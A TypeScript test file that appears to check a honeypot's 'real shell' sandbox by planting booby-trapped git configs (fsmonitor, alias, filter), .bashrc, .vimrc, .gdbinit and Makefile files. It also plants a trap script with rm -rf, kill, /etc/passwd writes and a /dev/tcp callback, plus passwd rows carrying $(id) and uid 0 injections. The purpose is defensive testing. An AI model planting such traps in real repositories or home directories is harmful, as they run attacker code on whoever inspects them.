/** What a visitor may leave for who comes to look, sprung in a real shell by careless hands. */
import assert from 'node:assert/strict'
import { once } from 'node:events'
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { type AddressInfo, createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { type TestContext, test } from 'node:test'
import { cageIds } from '../../src/cli/real-shell/ids.ts'
import { configOf, onceThere, PROMPT, raw, start, temporaryFolder } from '../e2e/kit.ts'
import {
  areGone,
  type Caged,
  cage,
  commandLine,
  hasProgram,
  hostMounts,
  processesWith,
  realShell,
} from './caged.ts'
import { noMountsOr } from './mounted.ts'

interface Trap {
  readonly name: string
  /** The program that springs it. */
  readonly by: string
  readonly files: Readonly<Record<string, string>>
  readonly spring: string
}

/** What every trap does, with its name behind it. */
const SPRUNG = 'sh /mnt/honeypot/trap'

/** A repository of as little as git takes for one, with this in its configuration. */
const repository = (folder: string, config: string): Record<string, string> => ({
  [`${folder}/.git/HEAD`]: 'ref: refs/heads/main\n',
  [`${folder}/.git/objects/info/x`]: '',
  [`${folder}/.git/refs/heads/.x`]: '',
  [`${folder}/.git/config`]: `[core]\n\trepositoryformatversion = 0\n${config}`,
})

const TRAPS: readonly Trap[] = [
  {
    name: 'git-fsmonitor',
    by: 'git',
    files: repository('srv/a', `\tfsmonitor = "${SPRUNG} git-fsmonitor;:"\n`),
    spring: 'git -C srv/a status',
  },
  {
    name: 'git-alias',
    by: 'git',
    files: repository('srv/b', `[alias]\n\tst = "!${SPRUNG} git-alias"\n`),
    spring: 'git -C srv/b st',
  },
  {
    name: 'git-filter',
    by: 'git',
    files: {
      ...repository('srv/c', `[filter "f"]\n\tclean = ${SPRUNG} git-filter\n`),
      'srv/c/.gitattributes': '* filter=f\n',
      'srv/c/file': 'x\n',
    },
    spring: 'git -C srv/c add file',
  },
  {
    name: 'bashrc',
    by: 'bash',
    files: { 'root/.bashrc': `${SPRUNG} bashrc\n` },
    spring: 'HOME=$PWD/root bash -ic true',
  },
  {
    name: 'vimrc',
    by: 'vim',
    files: { 'root/.vimrc': `call system("${SPRUNG} vimrc")\n` },
    spring: 'vim -u root/.vimrc -es +q',
  },
  {
    name: 'gdbinit',
    by: 'gdb',
    files: { 'root/.gdbinit': `shell ${SPRUNG} gdbinit\n` },
    spring: 'HOME=$PWD/root gdb -batch',
  },
  {
    name: 'makefile',
    by: 'make',
    files: { 'srv/Makefile': `all:\n\t${SPRUNG} makefile\n` },
    spring: 'make -C srv',
  },
]

/** Not sprung by anything: the shell reads no file of the world's, and executes none by its name. */
const DEAD: Readonly<Record<string, string>> = {
  'root/.profile': `${SPRUNG} profile\n`,
  'root/.bash_login': `${SPRUNG} login\n`,
  'root/.inputrc': `"\\C-m": "${SPRUNG} inputrc\\n"\n`,
  'etc/profile.d/z.sh': `${SPRUNG} profile.d\n`,
  id: `#!/bin/sh\n${SPRUNG} path\n`,
  'srv/b/.git/hooks/post-index-change': `#!/bin/sh\n${SPRUNG} hook\n`,
}
const TRY_THE_DEAD = `
  chmod 755 id srv/b/.git/hooks/*; ( PATH=.:$PATH; id; ./id ); git -C srv/b add .`

/** Commands that write these files below the working directory, each on a line. */
const planting = (files: Readonly<Record<string, string>>): string =>
  Object.entries(files)
    .map(([path, text]) => {
      const quoted = text.replaceAll('\\', '\\\\').replaceAll("'", "\\'").replaceAll('\n', '\\n')
      return `mkdir -p ${dirname(`./${path}`)}; printf %s $'${quoted}' > ${path}\n`
    })
    .join('')

/** Does what it can to the host, then stays, so that it can be looked at. */
const trapText = (aims: { folder: string; port: number; pid: number; token: string }): string => `
  setsid sh -c 'sleep 600; : ${aims.token}'"-$1" < /dev/null > /dev/null 2>&1 &
  exec < /dev/null > /dev/null 2>&1
  echo $1 > ${aims.folder}/sprung; echo $1 >> ${aims.folder}/precious; rm -rf ${aims.folder}
  kill -9 ${aims.pid}; mount --bind / /tmp; echo x >> /etc/passwd; echo x > /usr/bin/x
  bash -c 'echo $1 > /dev/tcp/127.0.0.1/${aims.port}'`

/** Once there are so many: a shell goes on before its child has become what it will be. */
const processesOf = (token: string, count: number) => {
  const found = processesWith(token)
  return found.size < count ? undefined : found
}

/** Plants by `plant`, springs all in a real shell, and looks at it from the host. */
const spring = async (
  t: TestContext,
  how: {
    readonly words: readonly string[]
    readonly plant: (script: string, session: Caged) => Promise<void>
    /** Ends the session, and all that came of it. */
    readonly end: (session: Caged) => Promise<void>
  },
): Promise<void> => {
  const folder = mkdtempSync(join(tmpdir(), 'mimicry-precious-'))
  t.after(() => rmSync(folder, { recursive: true, force: true }))
  writeFileSync(join(folder, 'precious'), 'kept\n')
  let calls = 0
  const server = createServer(() => calls++).listen(0, '127.0.0.1')
  t.after(() => void server.close())
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  const token = `sprung-${process.pid}`
  const before = hostMounts()
  const accounts = readFileSync('/etc/passwd', 'utf8')

  const session = cage(t, how.words)
  const traps = TRAPS.filter(({ by }) => hasProgram(by))
  const trap = trapText({ folder, port, pid: process.pid, token })
  await how.plant(
    planting(Object.assign({ trap }, DEAD, ...traps.map(({ files }) => files))),
    session,
  )
  const springs = traps.map(({ spring }) => `( ${spring} ) < /dev/null`)
  // Nothing is kept from being sprung for comfort's sake.
  const hands = [TRY_THE_DEAD, ...springs].join('\n')
  session.type(`unset GIT_CONFIG_COUNT; cd /mnt/honeypot\n${hands}\necho "spr""ung"\n`)
  await session.heard(/^sprung$/m)
  assert.deepEqual(hostMounts(), before)

  const { uid, gid } = cageIds()
  const statuses = [...(await onceThere(() => processesOf(token, traps.length)))]
  const sprung = statuses.map(([words]) => words.split(`${token}-`)[1]?.trim()).sort()
  assert.deepEqual(sprung, traps.map(({ name }) => name).sort())
  for (const [, status] of statuses) {
    const line = (name: string) => status.match(new RegExp(`^${name}:\\s+(.*)$`, 'm'))?.[1]
    assert.equal(line('Uid'), Array(4).fill(uid[0]).join('\t'))
    assert.equal(line('Gid'), Array(4).fill(gid[0]).join('\t'))
    assert.equal(line('CapEff'), '00000000800000ff')
    assert.deepEqual([line('NoNewPrivs'), line('Seccomp')], ['1', '2'])
  }
  await how.end(session)
  assert(await areGone(token), 'a planted process lives on')
  assert.equal(calls, 0)
  assert.deepEqual(readdirSync(folder), ['precious'])
  assert.equal(readFileSync(join(folder, 'precious'), 'utf8'), 'kept\n')
  assert.equal(readFileSync('/etc/passwd', 'utf8'), accounts)
  assert.deepEqual(hostMounts(), before)
}

const skip = noMountsOr('python3', 'git')

test('traps planted in a world run as nobody and reach nothing', { skip }, (t) =>
  spring(t, {
    words: commandLine(t),
    plant: async (script, session) => session.type(script),
    end: async (session) => {
      session.server.stdin?.end()
      assert.equal((await session.ended).how, 0)
    },
  }),
)

/** Rows of a visitor's: for who reads them with care there is one more account, and root is root. */
const ACCOUNTS =
  'root:x:7:7::/:/bin/sh\\ngood:x:777:778::/home/good:/bin/sh\\nevil\\e[2J:x:0:0::/:/bin/sh\\n' +
  'evil:x:0:0::/$(id):/bin/sh\\nevil2:x:-1:0::/:/bin/sh\\nevil3:x:1:2\\n'
const NAMED = ['root:x:0:0::/root:/bin/false', 'good:x:777:778::/mnt/honeypot/home/good:/bin/false']

test('traps of a visitor in a live world, too; its brain gone, the shell is told', {
  skip,
}, async (t) => {
  const dataDir = temporaryFolder(t)
  const running = await start(t, configOf(dataDir))
  const file = join(dataDir, 'c.yaml')
  writeFileSync(file, `store: "memory:"\ndata_dir: ${dataDir}\n`)
  const visitor = await raw(t, running)
  await visitor.until(PROMPT)
  visitor.send(`printf %s $'${ACCOUNTS}' >> /etc/passwd\n`)
  await visitor.until(PROMPT)
  await spring(t, {
    words: realShell('127.0.0.1', file),
    plant: async (script) => {
      visitor.send(`cd /\n${script}echo "plan""ted"\n`)
      await visitor.until('planted\nroot@ubuntu:/# ')
    },
    end: async (session) => {
      await running.stop()
      session.type("exec 2>&1; cat trap; grep -E 'root|good|evil' /etc/passwd; exit 4\n")
      const { how, said } = await session.ended
      assert.equal(how, 1)
      const accounts = said.split('\n').filter((line) => /^\S+:x:/.test(line))
      assert.deepEqual(accounts, NAMED)
      // The second when it asked while the mount was being taken away.
      assert.match(said, /^cat: trap: (Transport endpoint is not connected|Software caused connection abort)$/m) // biome-ignore format: one line
      assert.match(
        said,
        /^mimicry shell: the world is gone \(the brain was stopped\); leave by exit$/m,
      )
    },
  })
})
